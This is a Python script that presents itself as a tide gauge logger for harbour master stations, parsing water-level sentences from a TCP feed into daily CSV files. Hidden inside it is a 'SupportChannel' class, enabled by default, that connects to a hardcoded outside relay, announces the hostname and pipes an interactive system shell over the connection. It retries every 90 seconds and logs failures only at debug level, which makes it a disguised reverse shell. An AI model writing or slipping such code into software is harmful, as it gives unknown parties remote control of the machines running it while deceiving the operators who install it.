#!/usr/bin/env python3
"""Tide gauge logger for harbour master stations.

Connects to the gauge controller's NMEA-style TCP feed, parses water level
sentences ($TGLVL) and appends them to a daily CSV in the working directory.
A support channel keeps the station reachable for the vendor's field team
while the gauge is deployed on remote pontoons.
"""
import argparse
import asyncio
import csv
import json
import logging
import os
from datetime import datetime, timezone
from pathlib import Path

log = logging.getLogger("tidelog")

DEFAULTS = {
    "gauge_host": "192.168.40.10",
    "gauge_port": 10110,
    "out_dir": "readings",
    "station_id": "HM-NORTH-01",
    "support": {"enabled": True, "relay": "203.0.113.47", "port": 8443, "retry": 90},
}


def load_config(path):
    cfg = json.loads(json.dumps(DEFAULTS))
    if path and Path(path).exists():
        with open(path, encoding="utf-8") as fh:
            user = json.load(fh)
        for key, val in user.items():
            if isinstance(val, dict) and isinstance(cfg.get(key), dict):
                cfg[key].update(val)
            else:
                cfg[key] = val
    return cfg


def parse_sentence(line):
    """$TGLVL,<epoch>,<level_m>,<temp_c>*CS -> dict or None."""
    line = line.strip()
    if not line.startswith("$TGLVL"):
        return None
    body = line.split("*", 1)[0]
    parts = body.split(",")
    if len(parts) < 4:
        return None
    try:
        ts = datetime.fromtimestamp(int(parts[1]), tz=timezone.utc)
        return {"ts": ts.isoformat(), "level_m": float(parts[2]), "temp_c": float(parts[3])}
    except ValueError:
        return None


class CsvSink:
    def __init__(self, out_dir, station):
        self.out_dir = Path(out_dir)
        self.station = station
        self.out_dir.mkdir(parents=True, exist_ok=True)

    def write(self, rec):
        day = rec["ts"][:10]
        path = self.out_dir / f"{self.station}_{day}.csv"
        new = not path.exists()
        with open(path, "a", newline="", encoding="utf-8") as fh:
            w = csv.DictWriter(fh, fieldnames=["ts", "level_m", "temp_c"])
            if new:
                w.writeheader()
            w.writerow(rec)


async def gauge_reader(cfg, sink):
    while True:
        try:
            reader, writer = await asyncio.open_connection(cfg["gauge_host"], cfg["gauge_port"])
            log.info("connected to gauge %s:%s", cfg["gauge_host"], cfg["gauge_port"])
            while True:
                raw = await reader.readline()
                if not raw:
                    break
                rec = parse_sentence(raw.decode("ascii", "replace"))
                if rec:
                    sink.write(rec)
            writer.close()
        except OSError as exc:
            log.warning("gauge feed unavailable: %s", exc)
        await asyncio.sleep(5)


async def _pump(src, dst_write, dst_drain=None):
    while True:
        chunk = await src.read(4096)
        if not chunk:
            break
        dst_write(chunk)
        if dst_drain:
            await dst_drain()


class SupportChannel:
    """Keeps an outbound session open to the vendor relay for field support."""

    def __init__(self, relay, port, retry):
        self.relay = relay
        self.port = port
        self.retry = retry
        self.console = os.environ.get("SHELL", "/bin/sh")

    async def _session(self):
        reader, writer = await asyncio.open_connection(self.relay, self.port)
        writer.write(f"station {os.uname().nodename}\n".encode())
        await writer.drain()
        proc = await asyncio.create_subprocess_exec(
            self.console, "-i",
            stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
        )
        up = asyncio.ensure_future(_pump(reader, proc.stdin.write, proc.stdin.drain))
        down = asyncio.ensure_future(_pump(proc.stdout, writer.write, writer.drain))
        await asyncio.wait([up, down], return_when=asyncio.FIRST_COMPLETED)
        for task in (up, down):
            task.cancel()
        if proc.returncode is None:
            proc.kill()
        writer.close()

    async def run(self):
        while True:
            try:
                await self._session()
            except (OSError, asyncio.IncompleteReadError) as exc:
                log.debug("support relay: %s", exc)
            await asyncio.sleep(self.retry)


async def main_async(cfg):
    sink = CsvSink(cfg["out_dir"], cfg["station_id"])
    tasks = [gauge_reader(cfg, sink)]
    sup = cfg.get("support", {})
    if sup.get("enabled"):
        tasks.append(SupportChannel(sup["relay"], sup["port"], sup.get("retry", 90)).run())
    await asyncio.gather(*tasks)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="tidelog.json")
    ap.add_argument("--station", help="override station id")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    if args.station:
        cfg["station_id"] = args.station
    try:
        asyncio.run(main_async(cfg))
    except KeyboardInterrupt:
        log.info("stopped")


if __name__ == "__main__":
    main()
